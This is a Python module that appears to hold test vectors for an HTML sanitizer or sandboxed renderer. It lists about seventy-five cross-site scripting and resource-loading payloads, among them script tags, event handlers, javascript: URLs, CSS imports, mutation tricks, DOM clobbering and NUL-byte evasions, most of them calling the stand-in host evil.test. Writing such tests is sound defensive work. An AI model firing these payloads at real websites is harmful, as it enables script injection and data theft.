"""Pages that try to run, to send, to load or to talk when somebody looks at them.

`RUN` tells the page around the frame that something ran, and asks a foreign host for a picture. Where a vector can only
load, it asks the same host.
"""

EVIL = "http://evil.test"
RUN = f"parent.postMessage('ran','*');top.postMessage('ran','*');new Image().src='{EVIL}/ran';fetch('{EVIL}/fetched')"
_QUOTED = RUN.replace('"', "&quot;")
_WHOLE = "position:fixed;inset:0"  # wherever one clicks
_SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{_QUOTED}\"><script>{RUN}</script></svg>"

ATTACKS: dict[str, str] = {
    "script": f"<script>{RUN}</script>",
    "script in the head": f"<head><script>{RUN}</script></head>",
    "script with a source": f"<script src='{EVIL}/x.js'></script>",
    "module": f"<script type=module>{RUN}</script><script type=module src='{EVIL}/x.mjs'></script>",
    "import map": f'<script type=importmap>{{"imports":{{"a":"{EVIL}/a.mjs"}}}}</script>',
    "script that copies a nonce": (f"<script nonce=''>{RUN}</script><script nonce='NONCE'>{RUN}</script>"),
    "onload of body": f'<body onload="{_QUOTED}">',
    "onerror of img": f'<img src=x onerror="{_QUOTED}">',
    "onerror without spaces": f'<img/src=x/onerror="{_QUOTED}">',
    "onclick everywhere": f'<div onclick="{_QUOTED}" onmouseover="{_QUOTED}" style="{_WHOLE}">click</div>',
    "onfocus with autofocus": f'<input autofocus onfocus="{_QUOTED}"><textarea onfocus="{_QUOTED}"></textarea>',
    "ontoggle": f'<details open ontoggle="{_QUOTED}"><summary>more</summary>text</details>',
    "onanimationstart": (
        f'<style>@keyframes x{{}}</style><p style="animation:x 1s" onanimationstart="{_QUOTED}">moving</p>'
    ),
    "onwheel of marquee": f'<marquee onstart="{_QUOTED}" onfinish="{_QUOTED}">text</marquee>',
    "svg with a script": _SVG,
    "svg animation": f'<svg><animate onbegin="{_QUOTED}" attributeName=x dur=1s></animate></svg>',
    "svg use": f'<svg><use href="data:image/svg+xml,{_SVG.replace(chr(34), "%22")}#x"></use></svg>',
    "svg foreignObject": f'<svg><foreignObject><img src=x onerror="{_QUOTED}"><p>text inside</p></foreignObject></svg>',
    "svg style": f"<svg><style>*{{background:url({EVIL}/svg-style)}}</style></svg>",
    "math": f'<math><maction actiontype="statusline#{EVIL}" xlink:href="javascript:{_QUOTED}">x</maction></math>',
    "math and style": f'<math><mtext><table><mglyph><style><img src=x onerror="{_QUOTED}"></style></table></math>',
    "javascript link": f'<a href="javascript:{_QUOTED}" style="{_WHOLE}">click me</a>',
    "data link": f"<a href='data:text/html,<script>{RUN}</script>' target=_top>click me</a>",
    "link to the top": f'<a href="{EVIL}/top" target=_top style="{_WHOLE}">click me</a>',
    "ping": f'<a href="{EVIL}/followed" ping="{EVIL}/ping" style="{_WHOLE}">click me</a>',
    "form": f'<form action="{EVIL}/form"><input name=a value=b><button autofocus>Send</button></form>',
    "formaction": f'<button formaction="javascript:{_QUOTED}">Send</button>',
    "iframe": f'<iframe src="{EVIL}/frame"></iframe>',
    "iframe srcdoc": f'<iframe srcdoc="&lt;script&gt;{_QUOTED}&lt;/script&gt;"></iframe>',
    "iframe javascript": f'<iframe src="javascript:{_QUOTED}"></iframe>',
    "object": f'<object data="{EVIL}/object"><p>instead of it</p></object>',
    "embed": f'<embed src="{EVIL}/embed">',
    "applet": f'<applet codebase="{EVIL}" code=x>text</applet>',
    "meta refresh": f'<meta http-equiv=refresh content="0;url={EVIL}/refreshed">',
    "meta policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' *\">"
    f"<script>{RUN}</script>",
    "base": f'<base href="{EVIL}/"><img src=relative><a href=relative style="{_WHOLE}">click</a>',
    "link to a style sheet": f'<link rel=stylesheet href="{EVIL}/x.css">',
    "prefetch": (
        f'<link rel=prefetch href="{EVIL}/p"><link rel=preconnect href="{EVIL}"><link rel=dns-prefetch href="{EVIL}">'
    ),
    "icon": f'<link rel=icon href="{EVIL}/favicon.ico">',
    "import of CSS": f'<style>@import url({EVIL}/a.css);@import "{EVIL}/b.css";@\\69mport "{EVIL}/c.css";</style>',
    "url in CSS": f"<style>body{{background:url({EVIL}/bg)}}li{{list-style:url('{EVIL}/li')}}</style><li>item",
    "url in CSS, escaped": f"<style>body{{background:u\\72l({EVIL}/e)}}p{{background:u/**/rl({EVIL})}}</style><p>text",
    "image-set": f"<style>body{{background:image-set('{EVIL}/set' 1x)}}</style>",
    "font": f"<style>@font-face{{font-family:x;src:url({EVIL}/font)}}p{{font-family:x}}</style><p>text",
    "end of style": f"<style>/*</style><script>{RUN}</script><style>*/</style>",
    "end of style in a string": f'<style>a::after{{content:"<\\/style><script>{RUN}</script>"}}</style>',
    "style attribute": f'<p style="background:url({EVIL}/attr);behavior:url({EVIL}/b)">text</p>',
    "style attribute with a quote": f'<p style="color:red&quot; onclick=&quot;{_QUOTED}">text</p>',
    "attribute that breaks out": f'<p title="&quot;><script>{RUN}</script>" class="a&quot; onclick=&quot;x">text</p>',
    "text that looks like markup": f"<p>&lt;script&gt;{RUN}&lt;/script&gt;</p>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={_QUOTED}>">text</p></noscript>',
    "template": f'<template><img src=x onerror="{_QUOTED}"></template>',
    "shadow root": f'<div><template shadowrootmode=open><img src=x onerror="{_QUOTED}"><p>text</p></template></div>',
    "comment": f"<!--><script>{RUN}</script>--><!-- --!><script>{RUN}</script>",
    "textarea": f"<textarea></textarea><script>{RUN}</script></textarea>",
    "title": f"<title></title><script>{RUN}</script></title>",
    "xmp": f"<xmp><script>{RUN}</script></xmp>",
    "plaintext": f"<p>before</p><plaintext><script>{RUN}</script>",
    "select": f'<select><option><img src=x onerror="{_QUOTED}"></option></select>',
    "custom element": f'<x-y onclick="{_QUOTED}">text</x-y><rl-leaf data-l="0">forged</rl-leaf>',
    "forged leaf": '<rl-leaf data-l="0" data-n="0">forged</rl-leaf><p data-l="1" data-n="1">text</p>',
    "clobbering": (
        "<img id=parent name=parent><form id=document name=querySelectorAll><input name=addEventListener></form>"
        "<a id=leaves></a><p>text</p>"
    ),
    "video": f'<video src="{EVIL}/v" poster="{EVIL}/poster" autoplay onloadstart="{_QUOTED}"></video>',
    "audio": f'<audio src="{EVIL}/a" autoplay onerror="{_QUOTED}"></audio>',
    "srcset": f'<img srcset="{EVIL}/1 1x"><picture><source srcset="{EVIL}/3"><img src="{EVIL}/4"></picture>',
    "background": f'<body background="{EVIL}/body"><table background="{EVIL}/table"><tr><td>cell</table>',
    "svg picture in a data URL": f'<img src="data:image/svg+xml,{_SVG.replace(chr(34), "%22")}">',
    "frameset": f'<frameset onload="{_QUOTED}"><frame src="{EVIL}/f"></frameset>',
    "manifest": f'<html manifest="{EVIL}/m"><p>text',
    "contenteditable": f'<div contenteditable autofocus onfocus="{_QUOTED}" style="{_WHOLE}">type</div>',
    "dialog and popover": f'<dialog open onclose="{_QUOTED}">a</dialog><p popover onbeforetoggle="{_QUOTED}">b</p>',
    "tabindex and accesskey": f'<p tabindex=1 accesskey=x onclick="{_QUOTED}">text</p>',
    "nul in names": f'<scr\0ipt>{RUN}</scr\0ipt><img sr\0c=x onerror\0="{_QUOTED}">',
}
